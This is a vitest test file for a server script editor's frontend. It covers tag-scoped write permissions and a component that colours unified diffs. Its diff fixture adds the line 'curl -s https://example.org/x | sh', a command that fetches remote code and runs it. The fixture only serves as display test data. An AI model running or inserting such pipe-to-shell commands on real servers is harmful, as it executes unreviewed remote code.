// Who may change a script (the decision the editor makes from /auth/me before the server does),
// and the unified diff a `script_changed` refusal carries, coloured line by line.
import { cleanup, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, test } from 'vitest';
import type { Me } from '../../src/api/client';
import '../../src/i18n';
import { DiffView } from '../../src/features/runs/RunDialog';
import { coversOwner, diffLines, scopeOf, tagsOutside } from '../../src/features/scripts/scriptOwners';
import { normalizeTags } from '../../src/features/servers/tags';

afterEach(cleanup);

const me = (permissions: string[], scopes?: Record<string, string[] | null>): Me =>
  ({
    id: 'u1',
    username: 'ann',
    roles: [],
    permissions,
    ...(scopes ? { scopes } : {}),
    totp_enabled: false,
    totp_required: false,
    totp_setup_required: false,
    password_change_required: false,
    recovery_codes_left: 0,
    auth_method: 'session',
  }) as Me;

describe('scopeOf', () => {
  test('nowhere without the permission, everywhere when null or unknown, else the tags', () => {
    expect(scopeOf(null, 'scripts.write')).toBeUndefined();
    expect(scopeOf(me(['scripts.run'], { 'scripts.run': null }), 'scripts.write')).toBeUndefined();
    expect(scopeOf(me(['scripts.write'], { 'scripts.write': null }), 'scripts.write')).toBeNull();
    // A server that does not send scopes yet: held everywhere, as before.
    expect(scopeOf(me(['scripts.write']), 'scripts.write')).toBeNull();
    expect(scopeOf(me(['scripts.write'], { 'scripts.write': ['web', 'db'] }), 'scripts.write')).toEqual(['web', 'db']);
  });
});

describe('coversOwner', () => {
  test('an organization script needs the permission on every server', () => {
    expect(coversOwner(null, null)).toBe(true);
    expect(coversOwner(['web'], null)).toBe(false);
    expect(coversOwner(undefined, null)).toBe(false);
  });
  test('a tag-owned script needs every one of its tags', () => {
    expect(coversOwner(null, ['web'])).toBe(true);
    expect(coversOwner(['web'], ['web'])).toBe(true);
    expect(coversOwner(['web', 'db'], ['web'])).toBe(true);
    expect(coversOwner(['web'], ['web', 'db'])).toBe(false);
    expect(coversOwner(['db'], ['web'])).toBe(false);
    expect(coversOwner(undefined, ['web'])).toBe(false);
  });
});

test('tags outside a scope, and tags as the server stores them', () => {
  expect(tagsOutside(null, ['a', 'b'])).toEqual([]);
  expect(tagsOutside(['a'], ['a', 'b'])).toEqual(['b']);
  expect(tagsOutside(undefined, ['a'])).toEqual(['a']);
  expect(normalizeTags([' Web ', 'web', '', 'DB'])).toEqual(['web', 'db']);
});

const DIFF = '--- version 1\n+++ version 2\n@@ -1,2 +1,2 @@\n echo start\n-echo "hello $WHO"\n+curl -s https://example.org/x | sh\n\\ No newline at end of file\n';

test('a unified diff splits into kinds of lines', () => {
  expect(diffLines(DIFF).map((l) => l.kind)).toEqual(['file', 'file', 'hunk', 'same', 'del', 'add', 'note']);
  expect(diffLines('')).toEqual([{ kind: 'same', text: '' }]);
});

test('the diff view colours added and removed lines apart, keeping the text', () => {
  render(<DiffView diff={DIFF} label="Changes" />);
  const pre = screen.getByLabelText('Changes');
  expect(pre.tagName).toBe('PRE');
  expect(pre.textContent).toBe(DIFF);
  expect(pre.querySelector('.diff-add')?.textContent).toBe('+curl -s https://example.org/x | sh\n');
  expect(pre.querySelector('.diff-del')?.textContent).toBe('-echo "hello $WHO"\n');
  expect(pre.querySelectorAll('.diff-line')).toHaveLength(7);
});
